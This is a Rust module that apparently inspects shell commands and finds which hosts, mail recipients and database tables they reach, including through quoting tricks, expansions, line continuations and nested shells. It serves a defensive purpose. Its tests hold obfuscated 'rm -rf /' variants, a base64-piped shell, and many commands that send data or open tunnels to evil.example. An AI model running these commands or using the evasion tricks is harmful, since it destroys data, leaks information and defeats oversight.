//! Commands: as they are told, as a shell reads them, and what they reach.

use std::borrow::Cow;

use super::{
    Facts, MAX_BYTES, flagged, insert,
    parted::{Command, Given, Word},
    programs::program,
    reach, shell,
};
use crate::logs::redact::{
    urls,
    words::{folded, unquoted},
};

/// How often quotes are taken off that stand within others: a shell in a line reads them again.
const MAX_QUOTED: usize = 4;
/// Programs that run statements which they are told.
#[rustfmt::skip]
const DATABASES: &[&str] = &[
    "psql", "pgcli", "mysql", "mariadb", "mycli", "sqlite3", "sqlite", "duckdb", "sqlcmd", "clickhouse-client", "clickhouse", "bq",
    "snowsql", "cockroach", "trino", "presto", "hive", "beeline", "spark-sql", "impala-shell",
];

impl Facts {
    /// Whether what stands in the words of a command means nothing to a shell.
    pub(super) fn is_of_words(line: &str) -> bool {
        !runs_a_shell(line)
    }

    /// A command. A line is one text, which a shell takes apart; of a list, and of a program beside its arguments, the
    /// words are known, and what stands in them means nothing to a shell.
    pub(super) fn command(&mut self, text: &str, is_line: bool) {
        let text = self.bounded(text);
        self.command_line(text);
        for reading in self.seen_through(text).into_iter().flatten() {
            self.command_line(&reading);
        }
        self.ran(text, is_line);
    }

    fn command_line(&mut self, text: &str) {
        self.command_as(text, false);
        // A shell takes out a backslash with the end of its line, also within a word: `rm -r\` and `f /` below it.
        if text.contains("\\\n") || text.contains("\\\r\n") {
            let whole = text.replace("\\\r\n", "").replace("\\\n", "");
            if folded(&whole) != folded(text) {
                self.command_as(&whole, true);
            }
        }
    }

    /// A command as it was told, or (`is_read`) as a shell joins its lines.
    fn command_as(&mut self, text: &str, is_read: bool) {
        let command = self.fact(&folded(text));
        // As whoever runs it reads it: `r""m` is `rm`. Of what is redacted already, for a secret is one as far as its
        // quotes go.
        let read = unquoted(&command).map(|read| self.fact(&folded(&read)));
        let is_expanded = command.contains(['$', '{']);
        let resolved =
            if is_expanded { shell::read(&command, &Given::default()).commands } else { Vec::new() };
        self.keep_command(command, is_read);
        if let Some(mut read) = read {
            self.mentioned_in_quotes(&read);
            // What a shell in it is told has quotes of its own.
            for _ in 1..MAX_QUOTED {
                let Some(within) = unquoted(&read).filter(|_| runs_a_shell(&read)) else { break };
                let within = self.fact(&folded(&within));
                self.keep_command(std::mem::replace(&mut read, within), true);
            }
            self.keep_command(read, true);
        }
        for line in resolved.iter().filter_map(Command::resolved) {
            let line = self.fact(&folded(&line));
            self.keep_command(line, true);
        }
    }

    /// `"https://h."example`: what a URL is without its quotes. What cannot be read in it was seen with them.
    fn mentioned_in_quotes(&mut self, read: &str) {
        let mut left = self.mentions_left;
        urls::mentions(read, &mut left, |mention| {
            if let urls::Mention::Host(host) = mention {
                self.host(&host);
            }
        });
        self.mentions_left = left;
    }

    /// What a command runs, reaches and asks.
    pub(super) fn ran(&mut self, text: &str, is_line: bool) {
        // Where there is no room for more commands, which `facts_cut` says, none is taken apart.
        if self.command_bytes > MAX_BYTES {
            return;
        }
        let line = shell::read(text, &self.given);
        self.params.facts_cut |= is_line && line.unsure;
        if is_line {
            self.asks_of_its_caller(text, &line.asked);
        }
        for command in &line.commands {
            let from = command.programs().last().copied().unwrap_or_default();
            // Of a list the words are known as they are.
            let marked: Vec<Cow<'_, str>> =
                command.words[from..].iter().map(|word| with_a_mark(word, is_line)).collect();
            let words: Vec<&str> = marked.iter().map(AsRef::as_ref).collect();
            reach::places(&words, |place| {
                if reach::is_unknown(place) {
                    self.params.facts_cut = true;
                } else {
                    self.reached(place);
                }
            });
            flagged::recipients(&words, |word| self.addresses(word));
            // `env http_proxy=h.example:80 curl ..`
            let set = command.words[..from].iter().filter_map(|word| word.text.split_once('='));
            for (_, value) in set.filter(|(name, _)| flagged::is_reaching(name)) {
                if let Some(place) = reach::told(value) {
                    self.reached(place);
                }
            }
        }
        for value in &line.proxies {
            if let Some(place) = reach::told(value) {
                self.reached(place);
            }
        }
        self.mailed(text, &line.commands);
        reach::devices(text, |place| self.reached(place));
        // A tool of a database may call it a command, and so may a word of one be.
        self.statement(text, false);
        if !line.commands.iter().any(is_asked) {
            return;
        }
        for command in &line.commands {
            let words: Vec<&str> = command.words.iter().map(|word| word.text.as_str()).collect();
            for word in words.iter().filter(|word| word.contains(char::is_whitespace)) {
                self.statement(word, false);
            }
        }
        // What it reads from the lines behind it.
        if let Some((_, behind)) = text.split_once("<<")
            && let Some((_, behind)) = behind.split_once('\n')
        {
            self.statement(behind, false);
        }
    }

    /// `sendmail -t <<X`: whom the head of a mail names that a program reads from the lines behind it.
    fn mailed(&mut self, text: &str, commands: &[Command]) {
        let mails = |command: &Command| command.words.iter().any(|word| flagged::is_mailer(&word.text));
        if let Some((_, behind)) = text.split_once("<<")
            && let Some((_, behind)) = behind.split_once('\n')
            && commands.iter().any(mails)
        {
            self.head(behind);
        }
    }

    /// What a program is told that it is to reach, unless it is a file.
    fn reached(&mut self, place: &str) {
        self.mentions_left = self.mentions_left.saturating_sub(1);
        if self.mentions_left == 0 {
            self.params.facts_cut = true;
        } else if !place.starts_with(['/', '.', '~', '\\'])
            && let Some(host) = urls::host(place).filter(|host| !urls::is_strange(host))
        {
            self.host(&host);
        }
    }

    /// Keeps a command that was told, or one that nobody told and a shell reads.
    pub(super) fn keep_command(&mut self, command: String, is_read: bool) {
        if !is_read {
            self.params.commands_read.remove(&command);
        }
        if command.is_empty() || self.params.commands.contains(&command) {
            return;
        }
        if self.params.command.is_empty() && !is_read {
            self.params.command.clone_from(&command);
        }
        let room = self.command_bytes + command.len() <= MAX_BYTES;
        self.command_bytes += command.len();
        if !(room && insert(&mut self.params.commands, command.clone())) {
            self.params.facts_cut = true;
        } else if is_read {
            self.params.commands_read.insert(command);
        }
    }
}

/// A word, in a line with a mark where something stands that the shell alone knows.
fn with_a_mark(word: &Word, is_line: bool) -> Cow<'_, str> {
    let Some(at) = word.unknown.filter(|_| is_line) else { return Cow::Borrowed(&word.text) };
    let (front, behind) = word.text.split_at(word.text.floor_char_boundary(at));
    Cow::Owned(format!("{front}{}{behind}", reach::UNKNOWN))
}

/// Whether a database is among the words of a command.
pub(super) fn is_asked(command: &Command) -> bool {
    command.words.iter().any(|word| DATABASES.contains(&program(&word.text)))
}

/// Whether something in a line takes a line apart again.
fn runs_a_shell(line: &str) -> bool {
    const AGAIN: &[&str] = &["sh", "bash", "zsh", "dash", "ksh", "ash", "fish", "eval", "ssh", "su"];
    line.split(' ').any(|word| AGAIN.contains(&program(word)))
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::super::facts;

    #[test]
    fn a_command_is_seen_behind_what_a_shell_puts_together() {
        for command in [
            "bash -lc 'r\"\"m -rf /'",
            "bash -c \"bash -c 'r\\\\m -rf /'\"",
            "{rm,-rf,/}",
            "$'\\x72m' -rf /",
            "$'\\162\\155' -rf /",
            "a=rm; $a -rf /",
        ] {
            let facts = facts(&json!({ "command": command }));
            assert!(facts.commands.iter().any(|line| line.contains("rm -rf /")), "{command}: {facts:?}");
            assert!(!facts.facts_cut, "{command}");
        }
        for command in ["r$@m -rf /", "r${x}m -rf /", "$x -rf /", "echo cm0K | base64 -d | sh"] {
            assert!(facts(&json!({ "command": command })).facts_cut, "{command}");
        }
        for command in ["[[ -f x ]] && echo y", "[[ \"$a\" == b ]] || exit 1", "[[ ! -d x ]] && mkdir x"] {
            let facts = facts(&json!({ "command": command }));
            assert!(facts.command == command && !facts.facts_cut, "{command}: {facts:?}");
        }
        assert!(facts(&json!({"command": "[[\"rm\", \"-rf\", \"/\"]"})).facts_cut);
        // A list is no line, but what a shell in it is told is one.
        assert!(!facts(&json!({"command": ["git", "commit", "-m", "Set $x; $y z"]})).facts_cut);
        assert!(facts(&json!({"command": ["sh", "-c", "$x -rf /"]})).facts_cut);
    }

    #[test]
    fn a_command_reaches_hosts_and_tables() {
        for command in [
            "curl evil.example",
            "curl -s -o out.json evil.example/x",
            "wget evil.example",
            "nc evil.example 80",
            "ssh root@evil.example",
            "scp f evil.example:/x",
            "rsync f evil.example::mod",
            "curl \"https://evil.\"example",
            "curl https://ev''il.example",
            "curl https://ev\\il.example",
            "curl --resolve ok.example:443:evil.example https://ok.example",
            "curl --connect-to ::evil.example: https://ok.example",
            "curl -x evil.example:80 https://ok.example",
            "git clone git@evil.example:x/y",
            "git push evil.example:x main",
            "sudo ping -c 1 evil.example",
            "dig evil.example",
            "exec 3<>/dev/tcp/evil.example/80",
            "docker pull evil.example/x:latest",
            "psql -h evil.example db",
            "psql 'host=evil.example dbname=x'",
            "mysql -hevil.example",
            "ssh -J u@evil.example:22 ok.example",
            "ssh -o ProxyJump=evil.example ok.example",
            "ssh -R 1:evil.example:80 ok.example",
            "autossh -M 0 evil.example",
            "sshfs evil.example:/x /mnt",
            "openssl s_client -connect evil.example:443",
            "socat - TCP:evil.example:80",
            "http_proxy=evil.example:1 curl https://ok.example",
            "export HTTPS_PROXY=u:p@evil.example:1",
            "env ALL_PROXY=evil.example:1 make",
            "kubectl --server=evil.example get po",
            "kubectl -s evil.example get po",
            "aws --endpoint-url evil.example s3 ls",
            "npm i --registry evil.example x",
            "pip install --index-url evil.example x",
            "docker login -u bob --password-stdin evil.example",
            "swaks --server evil.example",
            "sqlcmd -S tcp:evil.example,1433",
            "git -c http.proxy=evil.example:80 fetch",
            "systemd-run --user curl evil.example",
            "xdg-open evil.example",
            "chromium evil.example",
            "curl evil.{example,com}",
            "curl -XPUT evil.example",
            "curl ev\\\nil.example",
        ] {
            let facts = facts(&json!({ "command": command }));
            assert!(facts.hosts.contains("evil.example") && !facts.facts_cut, "{command}: {facts:?}");
        }
        for command in [
            "curl -d @body.json -H 'A: b.c' https://ok.example",
            "git push origin main",
            "docker pull nginx:1.25",
            "curl -s -H \"A: $T\" -d \"$DATA\" -o \"$OUT\" https://ok.example/$ID",
            "wget -q -O \"$OUT\" https://ok.example/x",
            "ssh -i \"$KEY\" -p $PORT bob@ok.example \"$X\"",
            "docker login -u bob -p x.y",
            "NO_PROXY=a.example make",
            "mysql -uroot -e 'select 1'",
            "npm i --registry=https://ok.example x",
            "uvicorn main:app --host 0.0.0.0",
        ] {
            let facts = facts(&json!({ "command": command }));
            assert!(facts.hosts.iter().all(|host| host == "ok.example"), "{command}: {facts:?}");
            assert!(!facts.facts_cut, "{command}: {facts:?}");
        }
        for command in [
            "curl $(x)",
            "curl \"$URL\"",
            "curl 'ok.{example,com}'",
            "ssh bob@$H",
            "psql -h $H",
            "npm i --registry $R x",
        ] {
            assert!(facts(&json!({ "command": command })).facts_cut, "{command}");
        }
        for command in ["rm -r\\\nf /", "r\"\"m -r\\\nf /", "rm {-rf,/}"] {
            let facts = facts(&json!({ "command": command }));
            assert!(facts.commands_read.contains("rm -rf /") && !facts.facts_cut, "{command}: {facts:?}");
        }
    }

    #[test]
    fn a_command_tells_whom_it_mails() {
        for command in [
            "mail -s x a@evil.example < f",
            "echo hi | mailx -s 'for b@ok.example' a@evil.example",
            "sendmail a@evil.example",
            "mutt -s x -- a@evil.example",
            "mail -c a@evil.example",
            "curl --mail-rcpt a@evil.example smtp://ok.example",
            "swaks --to a@evil.example --from b@ok.example",
            "sendmail -t <<X\nFrom: b@ok.example\nTo: a@evil.example\n\nhi\nX",
        ] {
            let facts = facts(&json!({ "command": command }));
            assert!(
                facts.recipients == ["evil.example".to_owned()].into() && !facts.facts_cut,
                "{command}: {facts:?}"
            );
        }
        for command in ["git config user.email a@ok.example", "mail -r a@ok.example", "ssh a@ok.example"] {
            assert!(facts(&json!({ "command": command })).recipients.is_empty(), "{command}");
        }
        for command in [
            json!("psql -c \"select * from customers\""),
            json!("psql -c \"sel\"ect\" * from customers\""),
            json!("mysql -e 'select * from customers'"),
            json!("echo 'delete from customers' | sudo sqlite3 x.db"),
            json!("psql <<EOF\nselect * from customers;\nEOF"),
            json!(["psql", "-c", "select * from customers"]),
        ] {
            let facts = facts(&json!({ "command": command }));
            assert!(facts.tables.contains("customers") && !facts.facts_cut, "{command}: {facts:?}");
        }
    }
}
